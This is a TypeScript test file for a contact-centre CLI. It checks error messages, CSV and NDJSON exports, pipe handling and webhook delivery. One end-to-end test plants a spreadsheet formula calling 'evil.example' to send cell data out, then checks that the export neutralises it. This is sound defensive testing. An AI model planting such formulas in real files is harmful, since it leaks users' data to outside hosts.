import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { clientOptionsFromSettings, createInternalClient } from "../../src/client.ts";
import { settingsSchema } from "../../src/core/config/schema.ts";
import { humanLine } from "../../src/core/logging/logger.ts";
import { type RunningEmulator, startEmulator } from "../../src/emulator/index.ts";
import { adminCall } from "../support/emulator-admin.ts";
import { runCli } from "../support/run-cli.ts";

/**
 * Issue 20: what a newcomer hit that is not bad input (those are in bad-input.test.ts): where
 * messages go, how they read, and what CSV outputs contain. One emulator for the file.
 */
let emu: RunningEmulator;
let env: (dir: string) => Record<string, string>;
const admin$ = (method: string, route: string, body?: unknown) => adminCall(emu.url, method, route, body);
const dir = () => mkdtempSync(path.join(tmpdir(), "cxo-newcomer-"));
const CXO = path.resolve("bin/cxo.js");

beforeAll(async () => {
  emu = await startEmulator({ port: 0, calls: 600, rateLimitScale: 1000, metricsIntervalMs: 0 });
  const client = emu.fixtures.clients[0];
  if (!client) throw new Error("no client");
  env = (d) => ({
    CXONE_BASE_URL: emu.url,
    CXONE_CLIENT_ID: client.clientId,
    CXONE_CLIENT_SECRET: client.clientSecret,
    CXO_DATA_DIR: path.join(d, ".cxo"),
  });
});
afterAll(() => emu.close());

describe("messages", () => {
  it("tag --call that fails: the error on stderr, nothing on stdout, exit 1", async () => {
    const locked = emu.fixtures.lockedCalls[0];
    if (!locked) throw new Error("no locked call");
    const result = await runCli(
      ["tag", "--campaign", locked.campaignId, "--call", locked.id, "--disposition", "BUSY"],
      env(dir()),
    );
    expect(result.code).toBe(1);
    expect(result.stdout).toBe("");
    expect(result.stderr).toMatch(/^error: not tagged: .*409/m);
  });

  it('"throttled by CXone" reads as a line in human mode, not as a JSON log line', async () => {
    const call = emu.fixtures.calls[0];
    if (!call) throw new Error("no call");
    await admin$("POST", "/faults", { group: "dispositions", burst429: 2, retryAfter: 1 });
    const result = await runCli(
      ["tag", "--campaign", call.campaignId, "--call", call.id, "--disposition", "BUSY"],
      env(dir()),
    );
    await admin$("DELETE", "/faults");
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(/^warning: throttled by CXone: pausing the group/m);
    expect(result.stderr).not.toMatch(/\{"level"/);
  });

  it("humanLine: level word, message, fields", () => {
    expect(
      humanLine(
        '{"level":40,"time":1,"pid":2,"hostname":"h","name":"cxo","group":"dispositions","retryAfterMs":1000,"msg":"throttled"}',
      ),
    ).toBe("warning: throttled (group dispositions, retryAfterMs 1000)\n");
  });
});

describe("output files and pipes", () => {
  const window = () => ["--from", emu.fixtures.callWindow.start, "--to", new Date().toISOString()];
  const campaign = () => emu.fixtures.calls[0]?.campaignId as string;

  it("outcomes export --out x.csv (no --format) writes CSV, and outcomes verify accepts it", async () => {
    const d = dir();
    const out = path.join(d, "x.csv");
    const result = await runCli(
      ["--json", "outcomes", "export", "--campaign", campaign(), ...window(), "--out", out],
      env(d),
    );
    expect(result.code, result.stderr).toBe(0);
    const doc = JSON.parse(result.stdout);
    expect(doc.format).toBe("csv");
    expect(readFileSync(out, "utf8").split("\n")[0]).toMatch(/^id,campaignId,startTime,/);
    const verify = await runCli(["outcomes", "verify", out, "--hash", doc.complianceHash], env(d));
    expect(verify.code, verify.stderr).toBe(0);
  });

  it("--out - writes the rows to stdout (no file named -): outcomes export and campaigns contacts", async () => {
    const d = dir();
    const list = [...emu.fixtures.contactLists].sort((a, b) => a.size - b.size)[0]?.id as string;
    const [exported, contacts] = await Promise.all([
      runCli(["outcomes", "export", "--campaign", campaign(), ...window(), "--out", "-"], env(d), { cwd: d }),
      runCli(["campaigns", "contacts", list, "--out", "-", "--format", "csv"], env(d), { cwd: d }),
    ]);
    expect(exported.code, exported.stderr).toBe(0);
    const lines = exported.stdout.trim().split("\n");
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) expect(JSON.parse(line)).toHaveProperty("campaignId", campaign());
    expect(exported.stderr).toMatch(/exported \d+ records? in \d+ pages?/);
    expect(contacts.code, contacts.stderr).toBe(0);
    expect(contacts.stdout.split("\n")[0]).toMatch(/^id,firstName,lastName,phone/);
    expect(existsSync(path.join(d, "-"))).toBe(false);
  });

  it("cxo campaigns contacts LIST | head -1: exits quietly when the reader goes away (EPIPE)", async () => {
    const d = dir();
    const list = [...emu.fixtures.contactLists].sort((a, b) => b.size - a.size)[0]?.id as string;
    const result = await new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
      const child = spawn(
        "bash",
        ["-c", `set -o pipefail; "${process.execPath}" "${CXO}" campaigns contacts ${list} | head -1`],
        {
          env: { PATH: process.env.PATH ?? "", HOME: d, ...env(d) },
          cwd: d,
          stdio: ["ignore", "pipe", "pipe"],
        },
      );
      let stdout = "";
      let stderr = "";
      child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString()));
      child.stderr.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
      child.on("close", (code) => resolve({ code, stdout, stderr }));
    });
    expect(result.stdout.trim().split("\n")).toHaveLength(1);
    expect(result.stderr).not.toMatch(/EPIPE|error/);
    expect(result.code).toBe(0);
  });
});

describe("webhook events a command created are delivered before it exits", () => {
  it("tag --call: the BI event reaches the receiver before exit; --no-deliver leaves it queued", async () => {
    const received: string[] = [];
    const receiver = createServer((request, response) => {
      let body = "";
      request.on("data", (chunk: Buffer) => (body += chunk.toString()));
      request.on("end", () => {
        received.push(body);
        response.writeHead(204).end();
      });
    });
    await new Promise<void>((resolve) => receiver.listen(0, "127.0.0.1", resolve));
    const url = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/bi`;
    try {
      const [a, b] = [emu.fixtures.calls[2], emu.fixtures.calls[3]];
      if (!a || !b) throw new Error("calls");
      const d = dir();
      const destEnv = { ...env(d), CXO_DEST_BI_URL: url };
      const tag = (call: { id: string; campaignId: string }, ...extra: string[]) =>
        runCli(
          [...extra, "tag", "--campaign", call.campaignId, "--call", call.id, "--disposition", "BUSY"],
          destEnv,
        );
      const delivered = await tag(a);
      expect(delivered.code, delivered.stderr).toBe(0);
      expect(
        received.some((body) => body.includes(a.id)),
        delivered.stderr,
      ).toBe(true);
      expect(delivered.stderr).toMatch(/webhooks: 1 delivered/);

      const kept = await tag(b, "--no-deliver");
      expect(kept.code, kept.stderr).toBe(0);
      expect(received.some((body) => body.includes(b.id))).toBe(false);
      const status = await runCli(["--json", "outbox", "status"], destEnv);
      expect(JSON.parse(status.stdout).totals.pending).toBe(1);
    } finally {
      receiver.close();
    }
  });
});

describe("CSV formula injection, end to end", () => {
  it("outcomes export --format csv neutralises a formula in notes; NDJSON keeps it exact; verify passes", async () => {
    const d = dir();
    const call = emu.fixtures.calls[1];
    if (!call) throw new Error("no call");
    const settings = settingsSchema.parse({
      cxone: {
        baseUrl: emu.url,
        clientId: emu.fixtures.clients[0]?.clientId,
        clientSecret: emu.fixtures.clients[0]?.clientSecret,
      },
      dataDir: path.join(d, ".cxo"),
    });
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const client = createInternalClient(clientOptionsFromSettings(settings));
    await client.port.dispositions.setCallDisposition(call.id, {
      dispositionCodeId: "BUSY",
      notes: formula,
      tags: [],
    });
    await client.close();
    const window = ["--from", emu.fixtures.callWindow.start, "--to", new Date().toISOString()];
    const csv = path.join(d, "out.csv");
    const ndjson = path.join(d, "out.ndjson");
    const [a, b] = await Promise.all([
      runCli(
        [
          "--json",
          "outcomes",
          "export",
          "--campaign",
          call.campaignId,
          ...window,
          "--format",
          "csv",
          "--out",
          csv,
        ],
        env(d),
      ),
      runCli(
        ["--json", "outcomes", "export", "--campaign", call.campaignId, ...window, "--out", ndjson],
        env(d),
      ),
    ]);
    expect(a.code, a.stderr).toBe(0);
    expect(b.code, b.stderr).toBe(0);
    const rows = parse(readFileSync(csv), { columns: true }) as Array<Record<string, string>>;
    const row = rows.find((r) => r.id === call.id);
    expect(row?.notes).toBe(`'${formula}`);
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=@\t\r]/);
    const line = readFileSync(ndjson, "utf8")
      .split("\n")
      .find((l) => l.includes(call.id)) as string;
    expect(JSON.parse(line).notes).toBe(formula);
    const hash = JSON.parse(a.stdout).complianceHash as string;
    expect(JSON.parse(b.stdout).complianceHash).toBe(hash);
    const verify = await runCli(["outcomes", "verify", csv, "--hash", hash], env(d));
    expect(verify.code, verify.stderr).toBe(0);
  });
});
